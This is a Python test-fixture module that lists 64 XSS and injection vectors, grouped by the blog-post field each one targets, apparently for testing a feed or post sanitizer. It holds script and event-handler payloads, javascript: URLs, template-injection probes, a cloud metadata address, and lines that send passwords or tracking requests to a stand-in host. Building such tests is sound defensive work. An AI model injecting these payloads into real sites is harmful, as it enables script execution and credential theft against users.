"""The 64 ways of smuggling something that acts into a post: a name, the text itself, and the field it was made for.

The world of `office.py` puts each text into every field of a post; `field` names the one where it does its worst.
"""

from dataclasses import dataclass
from pathlib import Path
from typing import Literal

NAMES = Path(__file__).parents[1] / "data" / "xss_vectors.txt"

Field = Literal["html", "title", "author", "category", "guid", "link", "enclosure", "mark", "json"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Vector:
    """One text. In it `//evil.example` is a host that nobody may be led to without a click."""

    name: str
    text: str
    field: Field = "html"


def _of(field: Field, texts: dict[str, str]) -> list[Vector]:
    return [Vector(name=name, text=text, field=field) for name, text in texts.items()]


VECTORS = (
    *_of(
        "html",
        {
            "script": "<script>alert(1)</script>",
            "img-onerror": "<img src=x onerror=alert(1)>",
            "svg-onload": "<svg/onload=alert(1)>",
            "href-javascript": '<a href="javascript:alert(1)">x</a>',
            "href-javascript-line-feed": '<a href="java&#10;script:alert(1)">x</a>',
            "href-javascript-space": '<a href=" javascript:alert(1)">x</a>',
            "href-javascript-colon-entity": '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
            "href-data": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
            "href-vbscript": '<a href="vbscript:x">x</a>',
            "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>">',
            "iframe-javascript": "<iframe src=javascript:alert(1)>",
            "object": "<object data=x>",
            "embed": "<embed src=x>",
            "base": "<base href=//evil.example>",
            "meta-refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
            "link-stylesheet": "<link rel=stylesheet href=//evil.example>",
            "style-import": "<style>@import '//evil.example'</style>",
            "style-position": '<div style="position:fixed;inset:0">x</div>',
            "style-url": '<div style="background:url(javascript:1)">x</div>',
            "form": "<form action=//evil.example><input name=password>",
            "formaction": "<form><button formaction=javascript:alert(1)>x",
            "input-autofocus": "<input autofocus onfocus=alert(1)>",
            "details-ontoggle": "<details open ontoggle=alert(1)>",
            "video-source": "<video><source onerror=alert(1)>",
            "audio": "<audio src=x onerror=alert(1)>",
            "body-onload": "<body onload=alert(1)>",
            "marquee": "<marquee onstart=alert(1)>",
            "math-style": "<math><mtext></p><style><img src onerror=alert(1)></style>",
            "svg-style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "noscript-title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
            "template": "<template><script>alert(1)</script></template>",
            "math-href": "<math href=javascript:alert(1)>x</math>",
            "svg-animate": "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
            "svg-use": '<svg><use href="data:image/svg+xml,..."/></svg>',
            "svg-foreign-object": "<svg><foreignObject><script>1</script></foreignObject></svg>",
            "comment": '<!--<img src="--><img src=x onerror=alert(1)//">',
            "cdata": "<![CDATA[<script>alert(1)</script>]]>",
            "escaped-once": "&lt;script&gt;alert(1)&lt;/script&gt;",
            "escaped-twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
            "script-in-script": "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "srcset": '<img srcset="x 1x, javascript:alert(1) 2x">',
            "src-with-script": '<img src="http:a<script>alert(1)</script>">',
            "longdesc": "<img src=x:x longdesc=javascript:1>",
            "target-blank": "<a target=_blank href=//evil.example>x</a>",
            "ping": '<a href="//evil.example" ping="//evil.example">x</a>',
            "img-internal-address": "<img src=//169.254.169.254/>",
            "img-tracker": "<img width=1 height=1 src=//evil.example/theo-doi>",
            "vue": '<p id=app v-html="1">',
        },
    ),
    *_of(
        "title",
        {
            "title-end": "</title><script>alert(1)</script>",
            "title-double-quote": '"><img src=x onerror=alert(1)>',
            "title-single-quote": "' onmouseover='alert(1)",
        },
    ),
    Vector(name="author", text="<svg/onload=1>", field="author"),
    Vector(name="category", text="<img src=x onerror=1>", field="category"),
    Vector(name="guid", text="javascript:alert(1)", field="guid"),
    Vector(name="link", text="javascript:alert(1)", field="link"),
    Vector(name="enclosure", text='"><script>', field="enclosure"),
    *_of(
        "mark",
        {
            "shortcode": '[gallery ids="1"]',
            "shortcode-embed": "[embed]//evil.example[/embed]",
            "php": "<?php echo 1; ?>",
            "braces": "{{7*7}}",
            "dollar-brace": "${7*7}",
            "block-comment": "<!-- wp:html --><script>1</script>",
        },
    ),
    Vector(name="json-line-separator", text="\u2028alert(1)//", field="json"),
    Vector(name="json-script-end", text="</script><script>alert(1)</script>", field="json"),
)
